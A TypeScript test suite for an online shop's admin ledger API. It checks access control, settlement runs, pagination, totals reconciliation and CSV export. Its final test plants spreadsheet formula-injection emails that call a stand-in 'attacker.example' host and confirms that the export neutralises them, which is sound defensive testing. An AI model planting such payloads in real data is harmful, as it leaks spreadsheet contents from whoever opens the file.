import { loginAs } from '../../test/login';
import { walkAdminList } from '../../test/cursor-walk';
import { createTestApp, type TestApp } from '../../test/test-app';
import { ledgerEntries } from '../payments/ledger.repository';
import { addCard, buyFreshGroup, createCustomer, type TestCustomer } from '../checkout/commerce.fixtures';

let t: TestApp;
let adminToken: string;
let buyer: TestCustomer;
let cardId: number;

beforeAll(async () => {
  t = await createTestApp();
  adminToken = await loginAs(t.app, 'admin@example.com', 'Admin@1234');
  buyer = await createCustomer(t.handle.db, 'TX');
  cardId = await addCard(t.app, buyer.token);
});
afterAll(async () => {
  await t.close();
});

async function call(method: 'GET' | 'POST' | 'PUT', url: string, payload?: object, token = adminToken) {
  const res = await t.app.inject({ method, url, headers: { authorization: token }, payload });
  return { statusCode: res.statusCode, body: res.json(), headers: res.headers };
}

type Entry = { payment_id: number; kind: string; reason: string; amount_cents: number; order_id: number };

test('admins only: 401 without a session, 403 for a customer, on every route', async () => {
  for (const url of ['/api/admin/ledger', '/api/admin/ledger.csv', '/api/admin/settlement/runs']) {
    expect((await t.app.inject({ method: 'GET', url })).statusCode).toBe(401);
    expect((await call('GET', url, undefined, buyer.token)).statusCode).toBe(403);
  }
});

test('settlement runs are kept: an operator’s, and the job’s only when it did something', async () => {
  const { groupId } = await buyFreshGroup(t.app, t.handle.db, buyer, cardId, 2);
  const settled = await call('POST', `/api/admin/groups/${groupId}/settle`);
  expect(settled.statusCode).toBe(200);
  await call('POST', '/api/admin/settlement/run');
  await t.app.jobs.drain();

  const runs = (await call('GET', '/api/admin/settlement/runs?page_size=2')).body.data;
  expect(runs.runs).toEqual([
    expect.objectContaining({ started_by: 'operator', group_id: null, error: null }),
    expect.objectContaining({
      started_by: 'operator',
      group_id: groupId,
      lines_settled: settled.body.data.lines_settled,
      refunded_cents: settled.body.data.refunded_cents,
    }),
  ]);
  const all = (await call('GET', '/api/admin/settlement/runs?page_size=100')).body.data;
  expect(all.total).toBe(all.runs.length);
  for (const run of all.runs.filter((r: { started_by: string }) => r.started_by === 'job')) {
    expect(run.groups_closed + run.lines_settled).toBeGreaterThan(0);
  }
  expect((await call('GET', '/api/admin/settlement/runs?page_size=0')).statusCode).toBe(400);

  // By cursor: exactly the runs of the pages, newest first.
  const walked = await walkAdminList<{ cursor: string; run_id: number }>(
    (url) => call('GET', url),
    '/api/admin/settlement/runs',
    'runs',
    1,
  );
  expect(walked.byPage.length).toBeGreaterThan(1);
  expect(walked.forward).toEqual(walked.byPage);
  expect(walked.backward).toEqual(walked.byPage);
});

test('the ledger pages newest first; its totals add up its pages and reconcile with the orders', async () => {
  const { lineId } = await buyFreshGroup(t.app, t.handle.db, buyer, cardId, 1);
  expect((await call('PUT', `/api/admin/order-lines/${lineId}/status`, { status: 'cancelled' })).statusCode).toBe(200);

  const first = (await call('GET', '/api/admin/ledger?page_size=3')).body.data;
  expect(first.entries[0]).toMatchObject({ kind: 'refund', reason: 'cancellation', order_line_id: lineId });
  expect(first.entries[1]).toMatchObject({ kind: 'charge', reason: 'order' });
  expect(first.reconciliation.reconciled).toBe(true);

  const seen: Entry[] = [];
  for (let page = 1; ; page += 1) {
    const data = (await call('GET', `/api/admin/ledger?page=${page}&page_size=7`)).body.data;
    seen.push(...data.entries);
    if (!data.has_more) break;
  }
  const sum = (kind: string) => seen.filter((e) => e.kind === kind).reduce((total, e) => total + e.amount_cents, 0);
  expect(seen).toHaveLength(first.totals.entries);
  expect(first.totals).toEqual({
    entries: seen.length,
    charged_cents: sum('charge'),
    refunded_cents: sum('refund'),
    net_cents: sum('charge') - sum('refund'),
  });
  expect(first.reconciliation).toMatchObject({
    orders_cents: first.totals.charged_cents,
    lines_refunded_cents: first.totals.refunded_cents,
  });

  const refunds = (await call('GET', '/api/admin/ledger?kind=refund&page_size=100')).body.data;
  expect(refunds.entries.every((e: Entry) => e.kind === 'refund')).toBe(true);
  expect(refunds.totals).toMatchObject({ charged_cents: 0, refunded_cents: first.totals.refunded_cents });

  const today = new Date().toISOString().slice(0, 10);
  const todays = (await call('GET', `/api/admin/ledger?from=${today}&to=${today}&page_size=100`)).body.data;
  expect(todays.entries.map((e: Entry) => e.payment_id)).toContain(first.entries[0].payment_id);
  expect((await call('GET', '/api/admin/ledger?from=2000-01-01&to=2000-01-01')).body.data.total).toBe(0);
});

test('by cursor, whole or filtered: exactly the entries of the pages, newest first', async () => {
  const { lineId } = await buyFreshGroup(t.app, t.handle.db, buyer, cardId, 1);
  await call('PUT', `/api/admin/order-lines/${lineId}/status`, { status: 'cancelled' });
  const get = (url: string) => call('GET', url);
  type Row = Entry & { cursor: string };
  for (const url of ['/api/admin/ledger', '/api/admin/ledger?kind=refund']) {
    const { byPage, forward, backward } = await walkAdminList<Row>(get, url, 'entries', 4);
    expect(byPage.length).toBeGreaterThan(0);
    expect(forward).toEqual(byPage);
    expect(backward).toEqual(byPage);
    const ids = byPage.map((entry) => entry.payment_id);
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
  }
  // A new entry lands before the first page: the next page by cursor does not move.
  const first = (await call('GET', '/api/admin/ledger?page_size=3')).body.data;
  const next = (await call('GET', `/api/admin/ledger?page_size=3&after=${first.end_cursor}`)).body.data;
  await buyFreshGroup(t.app, t.handle.db, buyer, cardId, 1);
  const again = (await call('GET', `/api/admin/ledger?page_size=3&after=${first.end_cursor}`)).body.data;
  expect(again.entries).toEqual(next.entries);
  expect(again.total).toBe(next.total + 1);
  expect((await call('GET', '/api/admin/ledger?after=bm9wZQ')).body.message).toBe('after is not a cursor of this list');
});

test('bad filters are 400 naming the field', async () => {
  const message = async (query: string) => (await call('GET', `/api/admin/ledger?${query}`)).body.message;
  expect(await message('kind=gift')).toBe('kind must be one of charge, refund');
  expect(await message('from=yesterday')).toBe('from must be a date as YYYY-MM-DD');
  expect(await message('from=2025-02-01&to=2025-01-01')).toBe('from must not be after to');
  expect((await call('GET', '/api/admin/ledger.csv?to=2025-13-45')).statusCode).toBe(400);
});

test('the CSV export streams the whole filter: a header, one row per entry, amounts in dollars', async () => {
  const ledger = (await call('GET', '/api/admin/ledger?kind=refund&page_size=100')).body.data;
  const res = await t.app.inject({
    method: 'GET',
    url: '/api/admin/ledger.csv?kind=refund',
    headers: { authorization: adminToken },
  });
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['content-disposition']).toBe('attachment; filename="ledger.csv"');
  const lines = res.body.trim().split('\n');
  expect(lines[0]).toBe(
    'payment_id,created_at,kind,reason,amount,order_id,order_line_id,customer_id,customer_email,provider,provider_id',
  );
  expect(lines).toHaveLength(ledger.totals.entries + 1);
  const cents = lines.slice(1).reduce((total, line) => total + Math.round(Number(line.split(',')[4]) * 100), 0);
  expect(cents).toBe(ledger.totals.refunded_cents);
  const newest = ledger.entries[0];
  expect(lines[1]).toContain(
    `${newest.payment_id},${newest.created_at},refund,${newest.reason},${(newest.amount_cents / 100).toFixed(2)},`,
  );
});

test('the export reads the ledger in batches without losing or repeating an entry', async () => {
  const batched: number[] = [];
  for await (const row of ledgerEntries(t.handle.db, {}, 3)) batched.push(row.id);
  const paged = (await call('GET', '/api/admin/ledger?page_size=100')).body.data;
  expect(batched.slice(0, paged.entries.length)).toEqual(paged.entries.map((e: Entry) => e.payment_id));
  expect(batched).toHaveLength(paged.totals.entries);
});

test('CSV cells a spreadsheet would run as a formula start with an apostrophe; amounts stay numbers', async () => {
  // Text a customer chose: sign-up takes an e-mail starting with + or -, and older rows,
  // the CLI or another tool may hold anything; the export must not trust either.
  const shopper = await createCustomer(t.handle.db, 'TX');
  const { orderId } = await buyFreshGroup(t.app, t.handle.db, shopper, await addCard(t.app, shopper.token), 1);
  const charge = (await call('GET', '/api/admin/ledger?kind=charge&page_size=100')).body.data.entries.find(
    (e: Entry) => e.order_id === orderId,
  ) as Entry;

  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    const email = `${start}hyperlink("http://attacker.example/?"&a1)${shopper.id}@example.com`;
    await t.handle.db.updateTable('customers').set({ email }).where('id', '=', shopper.id).execute();
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/admin/ledger.csv?kind=charge',
      headers: { authorization: adminToken },
    });
    // One row per entry; a cell holding a CR is quoted, so rows still end at line feeds.
    const row = res.body.split('\n').find((line) => line.startsWith(`${charge.payment_id},`));
    const cell = `'${email}`.replaceAll('"', '""');
    expect(row).toContain(`,${(charge.amount_cents / 100).toFixed(2)},`);
    expect(row).toContain(`,"${cell}",`);
  }
});
